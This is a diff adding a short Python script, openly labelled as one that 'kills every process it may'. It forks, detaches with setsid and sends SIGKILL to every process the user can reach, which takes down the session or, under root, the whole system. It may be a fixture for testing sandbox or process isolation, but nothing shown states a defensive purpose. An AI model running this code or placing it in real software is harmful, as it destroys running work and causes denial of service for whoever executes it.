@@ -1,0 +1,8 @@
+"""Kills every process it may."""
+
+import os
+
+if os.fork() == 0:
+    os.setsid()
+    os.kill(-1, 9)
+os.wait()
